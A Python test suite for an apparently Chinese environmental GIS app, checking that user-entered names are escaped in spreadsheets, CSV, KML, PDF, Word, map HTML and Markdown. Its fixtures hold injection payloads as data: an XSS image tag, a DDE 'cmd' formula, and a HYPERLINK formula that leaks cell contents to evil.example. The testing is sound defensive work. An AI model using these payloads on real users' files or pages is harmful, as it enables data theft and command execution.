"""Every text is data (issue 12, item 3) and one odd record never breaks a page (item 4).

An officer's upload or edit can hold any characters; a name is later drawn on other users' screens
and written into the files they open. These tests put hostile and malformed values where an
officer could (the record store, an import file) and check what the other users get: the
characters as typed, never a formula, markup or a crash.
"""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import load_workbook
from shapely.geometry import Point

from gislib.safe_text import cell, html_text, mathtext, md_text, safe_frame

XSS = "<img src=x onerror=alert(1)>"
TICK = "河`${alert(1)}`口"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
FORMULAS = [HYPERLINK, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
NUL_NAME = "排口\x00名\x07称"
PLOT_WKT = "POLYGON ((121.40 31.24, 121.401 31.24, 121.401 31.241, 121.40 31.241, 121.40 31.24))"


# --------------------------------------------------------------------------- the helper
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_quoted_text(text):
    assert cell(text) == "'" + text


def test_cells_that_are_not_text_stay_what_they_are():
    assert cell(-12.5) == -12.5 and cell(-3) == -3 and cell(True) is True
    assert cell(None) is None and cell(float("nan")) is None
    assert cell("普通名称 = 不是公式") == "普通名称 = 不是公式"  # only a LEADING sign is a formula
    assert cell("'=1") == "'=1"  # already quoted: quoted once, not twice


def test_control_characters_are_removed_tab_and_newline_kept():
    assert cell(NUL_NAME) == "排口名称"
    assert cell("第一行\n第二行\t备注") == "第一行\n第二行\t备注"


def test_html_text_shows_the_characters():
    assert html_text(XSS) == "&lt;img src=x onerror=alert(1)&gt;"
    assert html_text('" onmouseover="x') == "&quot; onmouseover=&quot;x"
    assert html_text(None) == "" and html_text(float("nan")) == ""


def test_markdown_text_has_no_markup_left():
    out = md_text("**粗** [链接](http://x) :red[红] $x^2$ <b>")
    # every markup character is backslash-escaped, so Streamlit shows it as itself
    assert out == r"\*\*粗\*\* \[链接\](http\://x) \:red\[红\] \$x^2\$ \<b\>"
    assert md_text("两行\n名称") == "两行 名称"
    assert md_text("- 列表") == r"\- 列表" and md_text("1. 第一") == r"1\. 第一"  # no list from a name
    assert md_text("www.evil.example") == r"www\.evil.example"  # no autolink
    assert md_text("PT-0007 EPSG:4326 (示例)") == "PT-0007 EPSG:4326 (示例)"  # plain text stays readable


def test_mathtext_dollar_is_a_dollar():
    assert mathtext("$1000 河") == r"\$1000 河"


def test_safe_frame_quotes_text_columns_only():
    frame = pd.DataFrame({"code": ["=1+1", "PT-1"], "km": [-1.5, 2.0], "=head": ["a", "b"]})
    out = safe_frame(frame)
    assert list(out["code"]) == ["'=1+1", "PT-1"] and list(out["km"]) == [-1.5, 2.0]
    assert list(out.columns) == ["code", "km", "'=head"]
    assert list(frame["code"]) == ["=1+1", "PT-1"]  # the input is left alone


# --------------------------------------------------------------------------- every writer
def read_xlsx(path_or_bytes) -> list[tuple]:
    src = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    wb = load_workbook(src)
    ws = wb.active
    # openpyxl reads a live formula back as data_type "f": none may be left
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return list(ws.iter_rows(values_only=True))


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def hostile_outfalls() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({
        "code": ["=1+1", "PT-2", "PT-3"],
        "name": [HYPERLINK, NUL_NAME, XSS],
        "river": ["@SUM(1,1)", "-2+3", "桃浦河"],
        "pipe_diameter_mm": [-300, 500, 800],
    }, geometry=[Point(121.40, 31.25), Point(121.41, 31.25), Point(121.42, 31.25)], crs="EPSG:4326")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_layer_export_writes_text_not_formulas(tmp_path, suffix):
    from gislib.io.exporter import export_layer

    out = export_layer(hostile_outfalls(), tmp_path / f"排口{suffix}", layer="outfalls")
    rows = read_xlsx(out) if suffix == ".xlsx" else read_csv(out)
    header = list(rows[0])
    values = {h: [r[i] for r in rows[1:]] for i, h in enumerate(header)}
    code_h = next(h for h in header if "编码" in h)
    name_h = next(h for h in header if "名称" in h)
    assert values[code_h] == ["'=1+1", "PT-2", "PT-3"]
    assert values[name_h] == ["'" + HYPERLINK, "排口名称", XSS]
    diameter = next(v for h, v in values.items() if "pipe_diameter" in h or "管径" in h)
    assert [float(v) for v in diameter] == [-300, 500, 800]
    if suffix == ".xlsx":  # the negative number is still a number cell
        assert diameter[0] == -300


def test_rejected_rows_workbook_writes_text_not_formulas(tmp_path):
    from gislib.io.importer import import_file

    src = tmp_path / "排口.csv"
    src.write_text("排口编码,排口名称,经度,纬度,备注\n"
                   f"PT-1,正常排口,121.40,31.25,\n"
                   f"PT-2,\"{HYPERLINK.replace(chr(34), chr(34) * 2)}\",,31.25,@SUM(1;1)\n", encoding="utf-8")
    report = import_file(src, "outfalls")
    assert [r["row"] for r in report.rejected], "the row without a longitude must be rejected"
    rows = read_xlsx(report.rejected_to_excel(tmp_path / "rejected.xlsx"))
    header = rows[0]
    bad = next(r for r in rows[1:] if r[header.index("排口编码")] == "PT-2")
    assert bad[header.index("排口名称")] == "'" + HYPERLINK
    assert bad[header.index("备注")] == "'@SUM(1;1)"


def test_rejected_rows_workbook_survives_a_nul(tmp_path):
    """IllegalCharacterError used to break this export: the NUL is dropped, the row is written."""
    from gislib.io.importer import validate_rows

    report = validate_rows([{"code": "PT-9", "name": NUL_NAME, "__row__": 2}], "outfalls", "EPSG:4326",
                           None, 2000, frozenset(), 5)
    assert report.rejected
    report.rejected_raw = {report.rejected[0]["row"]: {"排口名称": NUL_NAME}}
    report.source_headers = ["排口名称"]
    rows = read_xlsx(report.rejected_to_excel(tmp_path / "rejected.xlsx"))
    assert rows[1][rows[0].index("排口名称")] == "排口名称"


def test_plot_registry_workbook_writes_text_not_formulas():
    from gislib.reports import plot_registry

    rec = {"code": "@SUM(1+1)", "name": HYPERLINK, "state": "纳入名录", "listed_batch": "2026-1",
           "responsible": "-2+3", "pollutants": "苯\x00萘", "geometry_wkt": PLOT_WKT}
    for ws in load_workbook(io.BytesIO(plot_registry.to_excel([rec]))):
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"], ws.title
    rows = list(load_workbook(io.BytesIO(plot_registry.to_excel([rec])))["名录"].iter_rows(values_only=True))
    header, row = rows[2], rows[3]
    assert row[header.index("地块编码")] == "'@SUM(1+1)"
    assert row[header.index("地块名称")] == "'" + HYPERLINK
    assert row[header.index("责任人")] == "'-2+3"
    assert row[header.index("主要污染物")] == "苯萘"
    assert isinstance(row[header.index("面积(m²)")], float)


def test_bulletin_warning_list_writes_text_not_formulas(tmp_path):
    from gislib.reports.bulletin import compute_bulletin, write_warnings_xlsx

    sections = pd.DataFrame({"code": ["=S1"], "name": [HYPERLINK], "river": ["@河"], "subdistrict": ["-街道"],
                             "level": ["区控"], "target_class": ["III"], "water_type": ["河流"], "demo": [False]})
    samples = pd.DataFrame([("=S1", "2026-10-05", 1.8)], columns=["section_code", "date", "氨氮"])
    b = compute_bulletin(samples, sections, "2026-10", district="测试区")
    assert len(b.warnings) == 1  # 1.8 mg/L ammonia is class V, off its class III target
    rows = read_xlsx(write_warnings_xlsx(b, tmp_path / "预警.xlsx"))
    assert rows[3][:4] == ("'=S1", "'" + HYPERLINK, "'@河", "'-街道")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_ledger_writes_text_not_formulas_and_survives_a_nul(tmp_path, suffix):
    from gislib.store import open_store
    from gislib.reports.ledger import ledger_rows, write_ledger

    with open_store(tmp_path / "data") as store:
        store.create("outfalls", {"code": "PT-1", "name": NUL_NAME, "type_l1": "暂无法确定", "river": HYPERLINK,
                                  "lon": 121.40, "lat": 31.25, "pipe_diameter_mm": -5}, "t")
        headers, rows = ledger_rows(store, "outfalls")
    out = tmp_path / f"台账{suffix}"
    write_ledger(out, headers, rows)
    got = read_xlsx(out) if suffix == ".xlsx" else read_csv(out)
    row = dict(zip(got[0], got[1]))
    assert row["名称"] == "排口名称"
    assert row["受纳水体"] == "'" + HYPERLINK


# --------------------------------------------------------------------------- the map
@pytest.fixture
def odd_store(tmp_path, monkeypatch):
    """The demo store plus records an import or a hurried officer could leave behind."""
    monkeypatch.setenv("HETU_DATA_DIR", str(tmp_path))
    from gislib.services.catalog import store

    st = store()
    odd = [
        ("outfalls", {"code": "ODD-O1", "name": XSS, "type_l1": "暂无法确定", "lon": 121.40, "lat": 31.25}),
        ("outfalls", {"code": "ODD-O2", "name": 12345, "type_l1": "暂无法确定", "river": 7, "lon": 121.41,
                      "lat": 31.25}),
        ("sections", {"code": "ODD-S1", "name": TICK, "lon": 121.41, "lat": 31.26}),
        ("plots", {"code": "ODD-P1", "name": XSS, "geometry_wkt": PLOT_WKT}),
        ("dust", {"code": "ODD-D1", "name": TICK, "lon": 121.42, "lat": 31.25}),
    ]
    for layer, rec in odd:
        st.create(layer, rec, "t")
    return st


def test_every_layer_draws_with_odd_records(odd_store):
    """A plot without an area, outfalls without a river or type_l2, numbers as names: all drawn."""
    from layers.mapview import build_map, find_feature
    from layers.registry import LAYERS

    result = build_map(tuple(layer.key for layer in LAYERS))
    html = result.fmap.get_root().render()
    assert result.counts["outfalls"] == 302 and result.counts["plots"] >= 1 and result.counts["sections"] == 26
    assert "ODD-P1" in html and "ODD-S1" in html
    assert [h[1] for h in find_feature("ODD-O2")] == ["ODD-O2"]
    assert [h[1] for h in find_feature("12345")] == ["ODD-O2"]


def test_map_html_holds_names_only_as_escaped_text(odd_store):
    from layers.mapview import build_map, styled_layer

    from layers.assets import GEN_DIR

    html = build_map(("sections", "plots")).fmap.get_root().render()
    # the vector layers' features are in the files the map frame fetches (layers.folium_elements.FetchedGeoJson)
    fetched = re.findall(r'hetuFetch\("/app/static/gen/([0-9a-f]+\.json)", "json"\)', html)
    assert fetched
    data = "".join((GEN_DIR / name).read_text(encoding="utf-8") for name in fetched)
    for text in (html, data):
        assert "<img src=x" not in text and "onerror=alert(1)>" not in text
    assert "\\u0026lt;img src=x onerror=alert(1)\\u0026gt;" in data  # the plot's name, escaped inside JSON
    assert "${alert(1)}" in data  # as data inside a JSON string, not a template literal
    assert all(json.loads((GEN_DIR / name).read_text(encoding="utf-8"))["features"] for name in fetched)  # JSON
    plots = styled_layer("plots")
    assert plots.set_index("code").at["ODD-P1", "_area"] == "—"


def test_the_default_map_page_renders_with_odd_records(odd_store):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "app.py"), default_timeout=90)
    at.session_state["lang"] = "zh"
    at.run()
    assert not at.exception
    counts = " ".join(c.value for c in at.caption)
    assert "入河排污口 302" in counts and "监测断面 26" in counts


# --------------------------------------------------------------------------- PDFs, Word, static maps
def pdf_text(path: Path) -> str:
    import subprocess

    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout


def test_outfall_file_pdf_prints_a_hostile_name_as_written(odd_store, tmp_path):
    """The 一口一档 PDF (with its locator map, a matplotlib label) of an outfall named with $, markup
    and a NUL: it is written, and the name is printed as the characters typed."""
    from gislib.reports.outfall_file import build_pdf
    from layers.outfall_file_map import map_image_for

    odd_store.create("outfalls", {"code": "ODD-O3", "name": "$5 排口 $x^2$ <b>" + "\x00", "type_l1": "暂无法确定",
                                  "lon": 121.40, "lat": 31.25}, "t")
    out = build_pdf(odd_store, ["ODD-O3"], tmp_path / "file.pdf", map_image=map_image_for("putuo"))
    text = pdf_text(out)
    assert "$5 排口 $x^2$ <b>" in text


def test_snapshot_title_with_dollars_is_printed_not_typeset(odd_store, tmp_path):
    """A map title with $…$ (matplotlib mathtext) prints the dollars; an odd $ used to abort the export."""
    from layers.snapshot import snapshot

    out = tmp_path / "snap.pdf"
    out.write_bytes(snapshot("pdf", layers_on=("district", "outfalls"), title="河道 $1,000 $x^2$ 整治 $", dpi=50))
    assert "河道 $1,000 $x^2$ 整治 $" in pdf_text(out)


def test_bulletin_word_and_pdf_survive_control_characters(tmp_path):
    from docx import Document

    from gislib.reports.bulletin import build_bulletin, compute_bulletin

    sections = pd.DataFrame({"code": ["S1"], "name": ["一号\x00断面=1"], "river": ["甲\x07河"], "subdistrict": ["甲街道"],
                             "level": ["区控"], "target_class": ["III"], "water_type": ["河流"], "demo": [False]})
    samples = pd.DataFrame([("S1", "2026-10-05", 1.8)], columns=["section_code", "date", "氨氮"])
    b = compute_bulletin(samples, sections, "2026-10", district="测试区")
    docx = build_bulletin(b, tmp_path / "专报.docx")
    cells = [c.text for t in Document(docx).tables for row in t.rows for c in row.cells]
    assert "一号断面=1" in cells and "甲河" in cells
    assert "一号断面=1" in pdf_text(build_bulletin(b, tmp_path / "专报.pdf"))


# --------------------------------------------------------------------------- the map frame's policy
def test_every_map_call_carries_a_policy_with_the_hash_of_its_script(monkeypatch):
    """views.map_csp wraps streamlit-folium's component once; each call's header gets the policy whose
    hash is of the exact inline script the frontend appends (script + its initComponent line)."""
    import base64
    import hashlib

    import streamlit_folium

    from views import map_csp

    calls = []
    monkeypatch.setattr(streamlit_folium, "_component_func", lambda **kw: calls.append(kw))
    map_csp.install()
    map_csp.install()  # idempotent: one wrapper, not two
    streamlit_folium._component_func(script="var m = 1;", header="<style></style>", return_on_hover=False)
    header = calls[0]["header"]
    expected = base64.b64encode(hashlib.sha256(
        b"var m = 1;window.map = map_div; window.initComponent(map_div, false);").digest()).decode()
    assert header.count("Content-Security-Policy") == 1 and header.endswith("<style></style>")
    assert f"'sha256-{expected}'" in header
    assert "'unsafe-inline'" not in header and "script-src 'self'" in header


def test_kml_export_is_valid_xml_with_hostile_names(tmp_path):
    import xml.etree.ElementTree as ET

    from gislib.io.exporter import export_layer

    gdf = hostile_outfalls()
    gdf['a"b'] = ["x", "y", "z"]  # a column name with a quote (an attribute in KML)
    out = export_layer(gdf, tmp_path / "排口.kml", layer="outfalls")
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    names = [n.text for n in ET.parse(out).getroot().iterfind(".//k:Placemark/k:name", ns)]
    assert names == [HYPERLINK, "排口名称", XSS]  # parsed back as the characters typed, the NUL dropped


def test_selecting_an_outfall_far_from_every_river_explains_instead_of_crashing(odd_store):
    """ODD-O1 lies hundreds of metres from any river line: the downstream trace cannot snap it. The
    page says so beside the map (it used to end in a DataError traceback) and shows the name as typed."""
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "app.py"), default_timeout=90)
    at.session_state["lang"] = "zh"
    at.session_state["selected"] = ("outfalls", "ODD-O1")
    at.run()
    assert not at.exception
    captions = " ".join(c.value for c in at.caption)
    assert re.search(r"排污口「ODD-O1」距最近河道线 \d+ 米", captions.replace("\\", ""))  # in the page's language
    assert any("\n#### " + md_text(XSS) + "\n" in m.value for m in at.markdown)  # the heading: the name, escaped


def test_a_markdown_table_keeps_each_text_in_its_cell():
    """A value with a pipe stays in its cell (escaped), and a field name cannot start markup."""
    from gislib.safe_text import md_table, md_text

    table = md_table(["", "值"], [[md_text("名称"), md_text("a|b **c**\nd")], [md_text("*x*"), "1"]])
    assert table.splitlines() == ["|   | 值 |", "|---|---|", "| 名称 | a\\|b \\*\\*c\\*\\* d |", "| \\*x\\* | 1 |"]


def test_positions_of_finds_a_code_as_text_in_every_kind_of_column():
    """A record is picked by its code whether the column holds Arrow strings (with gaps), numbers or objects."""
    import pandas as pd

    from gislib.values import positions_of

    assert positions_of(pd.Series(["PT-1", "PT-2", None, "PT-2"], dtype="string[pyarrow]"), "PT-2").tolist() == [1, 3]
    assert positions_of(pd.Series([101, 102, 103]), "102").tolist() == [1]
    assert positions_of(pd.Series(["a", None, 7], dtype=object), 7).tolist() == [2]
    assert positions_of(pd.Series(["a", "b"]), "c").tolist() == []
